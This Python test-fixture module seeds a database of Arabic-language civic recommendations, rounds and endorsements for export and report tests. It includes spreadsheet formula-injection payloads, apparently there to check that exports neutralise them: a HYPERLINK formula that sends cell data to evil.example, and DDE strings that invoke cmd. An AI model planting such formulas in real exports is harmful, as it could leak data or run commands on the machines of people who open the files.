"""A small, known body of input for export, statistics and report tests."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, timedelta

import aiosqlite

from storage import catalogue, endorsements, participants, recommendations, roles, rounds
from storage.models import Completion, Role, Sector
from storage.timefmt import to_db

# The classic spreadsheet formula-injection payloads.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

_ROUND = (
    "INSERT INTO rounds (code, name, held_on, place, state, created_at) VALUES (?, ?, ?, ?, 'open', ?) RETURNING id"
)
_ANSWER = "UPDATE recommendations SET state = ?, response = ?, responded_by = ?, responded_at = ? WHERE id = ?"
_HIDE = "UPDATE recommendations SET hidden = 1, hidden_reason = 'spam' WHERE id = ?"
_ENDORSE = "INSERT INTO endorsements (recommendation_id, participant_id, created_at) VALUES (?, ?, ?)"
_FORGET = "UPDATE participants SET name = NULL, organisation = NULL, forgotten_at = ? WHERE id = ?"


@dataclass
class Sample:
    """Ids of what seed() stored."""

    commitments: list[int]
    round_id: int
    top: int  # the most endorsed recommendation (commitment 1, funding)
    answered: int
    hidden: int
    forgotten_author: int
    payloads: list[int]
    total: int


async def seed(conn: aiosqlite.Connection, now: datetime) -> Sample:
    """Store three people, a round, recommendations on commitments 1 and 2, an update and a milestone."""
    commitments = [c.id for c in await catalogue.list_commitments(conn)]
    c1, c2 = commitments[0], commitments[1]
    themes = await catalogue.list_themes(conn, c1)
    funding, governance = themes[0].id, themes[1].id
    salma = await participants.register(
        conn,
        "telegram",
        "1001",
        name="سلمى الخطيب",
        organisation="جمعية الشفافية",
        sector=Sector.CSO,
        governorate="amman",
        now=now,
    )
    officer = await participants.register(
        conn,
        "telegram",
        "2002",
        name="أحمد الزعبي",
        organisation="وزارة التنمية الاجتماعية",
        sector=Sector.GOVERNMENT,
        governorate="irbid",
        now=now,
    )
    gone = await participants.register(
        conn,
        "telegram",
        "3003",
        name="ليلى",
        organisation="شبكة",
        sector=Sector.ACADEMIA,
        governorate="zarqa",
        now=now,
    )
    async with conn.execute(
        _ROUND, ("meeting-1", "اللقاء الأول لأصحاب المصلحة", "2019-09-30", "عمّان", to_db(now))
    ) as cur:
        row = await cur.fetchone()
    assert row is not None
    round_id = int(row[0])

    async def add(
        author: int, commitment: int, theme: int | None, text: str, minutes: int, rnd: int | None = None
    ) -> int:
        rec = await recommendations.add_recommendation(
            conn,
            participant_id=author,
            commitment_id=commitment,
            theme_id=theme,
            text=text,
            channel="telegram",
            now=now + timedelta(minutes=minutes),
            round_id=rnd,
        )
        return rec.id

    low = await add(salma.id, c1, funding, "عدم معاملة جميع مبالغ التمويل نفس المعاملة", 1, round_id)
    top = await add(gone.id, c1, funding, "تفعيل الرقابة اللاحقة وليس المسبقة", 2, round_id)
    await add(salma.id, c1, governance, "تسهيل الحصول على الموافقات الأمنية", 3, round_id)
    hidden = await add(salma.id, c1, governance, "رسالة مزعجة لا علاقة لها بالالتزام", 4, round_id)
    answered = await add(salma.id, c2, None, "تطوير البرنامج التدريبي ليكون تفاعلياً أكثر", 5)
    payloads = [await add(salma.id, c2, None, text, 10 + i) for i, text in enumerate(PAYLOADS)]
    for endorser in (salma.id, officer.id):
        await conn.execute(_ENDORSE, (top, endorser, to_db(now)))
    await conn.execute(_ENDORSE, (low, officer.id, to_db(now)))
    answered_at = now + timedelta(days=3, minutes=5)
    await conn.execute(_ANSWER, ("accepted", "سنضيف تمارين عملية", officer.id, to_db(answered_at), answered))
    await conn.execute(_HIDE, (hidden,))
    await conn.execute(_FORGET, (to_db(now), gone.id))
    await catalogue.add_status_update(
        conn, c1, Completion.SUBSTANTIAL, 60, now, note="=1+1 أُنجز نظام التمويل الإلكتروني", author_id=officer.id
    )
    await catalogue.add_milestone(conn, c1, "إطلاق النظام الإلكتروني للتمويل", None, now.date(), now)
    return Sample(commitments, round_id, top, answered, hidden, gone.id, payloads, 5 + len(PAYLOADS))


ROUND_NAME = "اللقاء الأول بين أصحاب المصلحة وضباط ارتباط تنفيذ الخطة الوطنية الرابعة"
QUESTIONS = (
    ("progress", "ما مدى تقدّم سير العمل في الالتزام؟"),
    ("challenges", "ما التحديات التي تواجه التنفيذ؟"),
    ("civil_society", "ما دور مؤسسات المجتمع المدني في ذلك؟"),
)


@dataclass
class RoundSample:
    """Ids of what seed_round() stored."""

    round_id: int
    commitments: list[int]
    questions: list[int]
    hidden: int


async def _member(
    conn: aiosqlite.Connection, user: str, name: str, organisation: str, sector: Sector, now: datetime
) -> int:
    person = await participants.register(
        conn, "telegram", user, name=name, organisation=organisation, sector=sector, governorate="amman", now=now
    )
    return person.id


async def seed_round(conn: aiosqlite.Connection, now: datetime, *, online: bool = False) -> RoundSample:
    """Store a round on commitments 1-3 with five members (one liaison, one forgotten) and question-tagged input."""
    c1, c2, c3 = [c.id for c in await catalogue.list_commitments(conn)][:3]
    funding, governance = [t.id for t in await catalogue.list_themes(conn, c1)][:2]
    found = await rounds.create_round(
        conn,
        name=ROUND_NAME,
        held_on=None if online else date(2019, 9, 30),
        place=None if online else "فندق جنيفا - عمّان",
        online=online,
        deadline=now + timedelta(days=7),
        commitment_ids=[c1, c2, c3],
        questions=list(QUESTIONS),
        created_by=None,
        now=now,
    )
    progress, challenges, civil = [q.id for q in await rounds.list_questions(conn, found.id)]
    salma = await _member(conn, "1001", "سلمى", "جمعية الشفافية", Sector.CSO, now)
    officer = await _member(conn, "2002", "أحمد", "وزارة التنمية الاجتماعية", Sector.GOVERNMENT, now)
    huda = await _member(conn, "3003", "هدى", "  جمعية   الشفافية ", Sector.CSO, now)
    karim = await _member(conn, "4004", "كريم", "جامعة اليرموك", Sector.ACADEMIA, now)
    gone = await _member(conn, "5005", "ليلى", "شبكة", Sector.CSO, now)
    await roles.grant(conn, officer, Role.LIAISON, c1, None, now)
    for person, group in ((salma, c1), (officer, c1), (huda, c2), (karim, c2), (gone, c1)):
        await rounds.join_group(conn, found.id, person, group, now)

    async def add(author: int, commitment: int, theme: int | None, question: int | None, text: str) -> int:
        rec = await recommendations.add_recommendation(
            conn,
            participant_id=author,
            commitment_id=commitment,
            theme_id=theme,
            text=text,
            channel="telegram",
            now=now,
            round_id=found.id,
        )
        if question is not None:
            await rounds.tag_question(conn, rec.id, question)
        return rec.id

    await add(officer, c1, None, progress, "أُنجز نظام التمويل الإلكتروني جزئياً")
    low = await add(salma, c1, funding, challenges, "عدم معاملة جميع مبالغ التمويل نفس المعاملة")
    top = await add(salma, c1, funding, challenges, "تفعيل الرقابة اللاحقة وليس المسبقة")
    await add(officer, c1, governance, challenges, "تسهيل الحصول على الموافقات الأمنية")
    hidden = await add(salma, c1, governance, challenges, "رسالة مزعجة لا علاقة لها بالالتزام")
    await add(salma, c1, None, None, "نشر محاضر اجتماعات اللجنة")
    await add(huda, c2, None, civil, "إشراك الجمعيات في تصميم البرامج التدريبية")
    await recommendations.add_recommendation(
        conn,
        participant_id=karim,
        commitment_id=c2,
        theme_id=None,
        text="توصية خارج الجولة",
        channel="telegram",
        now=now,
    )
    for endorser in (officer, huda):
        await endorsements.endorse(conn, top, endorser, now)
    await endorsements.endorse(conn, low, officer, now)
    await conn.execute(_HIDE, (hidden,))
    await conn.execute(_FORGET, (to_db(now), gone))
    await catalogue.add_status_update(conn, c1, Completion.SUBSTANTIAL, 60, now, note=None, author_id=officer)
    return RoundSample(found.id, [c1, c2, c3], [progress, challenges, civil], hidden)
